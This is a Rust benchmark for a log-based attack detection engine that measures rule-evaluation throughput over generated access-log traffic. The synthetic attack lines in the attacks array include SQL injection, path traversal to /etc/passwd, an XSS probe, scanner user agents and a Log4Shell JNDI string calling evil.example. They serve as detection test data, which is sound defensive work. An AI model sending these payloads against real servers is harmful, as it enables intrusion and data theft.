//! Rule engine throughput: lines per second on one core, with the default
//! pack alone and parameterized to over 100 active rules, over generated
//! access-log traffic (97% ordinary, 3% attacks of the kinds the pack
//! detects).
//!
//! The 100-rule set is the pack five times over; each copy gets its own
//! client allowlist (`not cidr`) and its own thresholds, so copies differ in
//! tests and state as a real pack of per-team variants would, while sharing
//! the regexes that are in fact the same.

use std::hint::black_box;
use std::path::Path;

use criterion::{criterion_group, criterion_main, Criterion, Throughput};
use nightowl::detect::rule::{ExprSpec, OneOrMany};
use nightowl::detect::{load_dir, Engine, RuleSpec};
use nightowl::parse::{parse_line, Event, Format, ParseContext};

const LINES: usize = 100_000;
const COPIES: usize = 5;
/// Event time covered by the generated traffic (1000 lines/s), plus a
/// second.
const SPAN: i64 = (LINES as i64 / 1000 + 1) * 1_000_000_000;

/// xorshift: deterministic traffic without a dependency.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }

    fn pick<'a>(&mut self, v: &[&'a str]) -> &'a str {
        v[(self.next() % v.len() as u64) as usize]
    }
}

fn traffic() -> Vec<String> {
    let mut r = Rng(0x9e37_79b9_7f4a_7c15);
    let paths = [
        "/",
        "/index.html",
        "/static/js/app.3f9a1c.js",
        "/static/css/site.css",
        "/api/v1/items?page=2&per_page=50",
        "/api/v1/cart",
        "/products/4711?ref=home",
        "/search?q=running+shoes&sort=price",
        "/login",
        "/account/orders",
        "/img/logo.png",
        "/favicon.ico",
        "/blog/2024/10/release-notes",
    ];
    let uas = [
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
        "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
        "curl/8.5.0",
    ];
    let attacks = [
        (
            "GET",
            "/item.php?id=1%20UNION%20ALL%20SELECT%20NULL,NULL--",
            500,
            "Mozilla/5.0",
        ),
        (
            "GET",
            "/download?file=..%2f..%2f..%2fetc%2fpasswd",
            404,
            "Mozilla/5.0",
        ),
        (
            "GET",
            "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
            200,
            "Mozilla/5.0",
        ),
        ("GET", "/", 200, "sqlmap/1.7.2#stable (https://sqlmap.org)"),
        ("GET", "/.env", 404, "Mozilla/5.0 zgrab/0.x"),
        ("POST", "/login", 401, "python-requests/2.31"),
        ("GET", "/wp-admin/", 404, "Mozilla/5.0"),
        ("GET", "/", 200, "${jndi:ldap://evil.example/a}"),
    ];
    let mut out = Vec::with_capacity(LINES);
    for i in 0..LINES {
        let sec = i / 1000;
        let ts = format!(
            "10/Oct/2024:{:02}:{:02}:{:02} +0000",
            12 + sec / 3600,
            sec / 60 % 60,
            sec % 60
        );
        let ip = format!("198.51.{}.{}", r.next() % 20, r.next() % 250 + 1);
        let line = if r.next() % 100 < 3 {
            let (m, p, s, ua) = attacks[(r.next() % attacks.len() as u64) as usize];
            format!("{ip} - - [{ts}] \"{m} {p} HTTP/1.1\" {s} 153 \"-\" \"{ua}\"")
        } else {
            let p = r.pick(&paths);
            let status = match r.next() % 100 {
                0..=1 => 404,
                2 => 500,
                3..=5 => 304,
                _ => 200,
            };
            format!(
                "{ip} - - [{ts}] \"GET {p} HTTP/1.1\" {status} {} \"https://shop.example/\" \"{}\"",
                r.next() % 50_000,
                r.pick(&uas)
            )
        };
        out.push(line);
    }
    out
}

fn pack() -> Vec<RuleSpec> {
    let dir = Path::new(concat!(env!("CARGO_MANIFEST_DIR"), "/rules"));
    match load_dir(dir) {
        Ok(rules) => rules.into_iter().map(|r| r.spec).collect(),
        Err(e) => panic!("default pack: {e}"),
    }
}

fn parameterized(base: &[RuleSpec]) -> Vec<RuleSpec> {
    let mut out = Vec::new();
    for k in 0..COPIES {
        for r in base {
            let mut r = r.clone();
            r.id = format!("{}-v{k}", r.id);
            let allow = ExprSpec {
                field: Some(OneOrMany::One("client_ip".into())),
                cidr: Some(OneOrMany::One(format!("10.{k}.0.0/16"))),
                ..Default::default()
            };
            let not_allowed = ExprSpec {
                not: Some(Box::new(allow)),
                ..Default::default()
            };
            r.matcher = Some(match r.matcher.take() {
                Some(m) => ExprSpec {
                    all: Some(vec![m, not_allowed]),
                    ..Default::default()
                },
                None => not_allowed,
            });
            if let Some(c) = r.detect.count.as_mut() {
                *c += k as u64;
            }
            out.push(r);
        }
    }
    out
}

fn bench(c: &mut Criterion) {
    let lines = traffic();
    let ctx = ParseContext {
        now_nanos: 1_730_000_000_000_000_000,
    };
    let events: Vec<Event<'_>> = lines
        .iter()
        .map(|l| match parse_line(l.as_bytes(), Format::Combined, &ctx) {
            Ok(e) => e,
            Err(e) => panic!("generated line does not parse: {e}: {l}"),
        })
        .collect();
    let base = pack();
    let many = parameterized(&base);
    assert!(many.len() >= 100, "{} rules", many.len());

    let mut g = c.benchmark_group("rules");
    g.throughput(Throughput::Elements(LINES as u64));
    for (name, rules) in [("pack", &base), ("pack_x5", &many)] {
        let mut engine = Engine::new(rules).unwrap_or_else(|(id, e)| panic!("{id}: {}", e.message));
        let mut out = Vec::new();
        let mut firings = 0usize;
        // Each pass replays the traffic later in event time: replaying it
        // at the same times would make every line "late" and skipped.
        let mut shift = 0i64;
        g.bench_function(
            format!("evaluate_{name}_{}_rules", engine.rule_count()),
            |b| {
                b.iter(|| {
                    for (ev, l) in events.iter().zip(&lines) {
                        let ts = ev.timestamp.unwrap_or(0) + shift;
                        engine.evaluate(ev, l, ts, "default", &mut out);
                    }
                    shift += SPAN;
                    firings += out.len();
                    out.clear();
                    engine.tick(shift, &mut out);
                    black_box(&out);
                })
            },
        );
        eprintln!(
            "{name}: {} rules, {firings} firings over all iterations",
            engine.rule_count()
        );
    }
    let mut engine = Engine::new(&many).unwrap_or_else(|(id, e)| panic!("{id}: {}", e.message));
    let mut out = Vec::new();
    let mut shift = 0i64;
    g.bench_function(
        format!("parse_and_evaluate_{}_rules", engine.rule_count()),
        |b| {
            b.iter(|| {
                for l in &lines {
                    if let Ok(ev) = parse_line(l.as_bytes(), Format::Combined, &ctx) {
                        engine.evaluate(
                            &ev,
                            l,
                            ev.timestamp.unwrap_or(0) + shift,
                            "default",
                            &mut out,
                        );
                    }
                }
                shift += SPAN;
                black_box(&out);
                out.clear();
            })
        },
    );
    g.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
